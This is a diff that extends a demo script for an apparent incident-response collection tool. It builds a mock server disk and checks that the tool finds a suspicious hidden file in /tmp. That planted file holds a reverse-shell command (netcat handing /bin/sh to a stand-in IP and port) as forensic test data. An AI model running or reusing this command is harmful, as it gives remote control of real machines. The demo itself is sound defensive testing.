@@ -15,3 +15,11 @@ done
 say "The collection is now an entry of the incident's log book"
 printf "$ irk show 1 | tail -n 4\n"
 irk show 1 | tail -n 4
+say "A switched-off server's disk, mounted on this machine: --root reads it as if it were /"
+mkdir -p "$DEMO/disk/etc" "$DEMO/disk/tmp" "$DEMO/disk/var/log"
+printf 'root:x:0:0:root:/root:/bin/bash\n' >"$DEMO/disk/etc/passwd"
+echo web1 >"$DEMO/disk/etc/hostname"
+printf '#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n' >"$DEMO/disk/tmp/.x" && chmod 0755 "$DEMO/disk/tmp/.x"
+run collect --root "$DEMO/disk" -o "$DEMO/disk-collection" --copy-max 16M
+printf "$ grep /tmp/.x %s\n" "$DEMO/disk-collection/tempdirs.jsonl"
+grep /tmp/.x "$DEMO/disk-collection/tempdirs.jsonl" | cut -c1-160
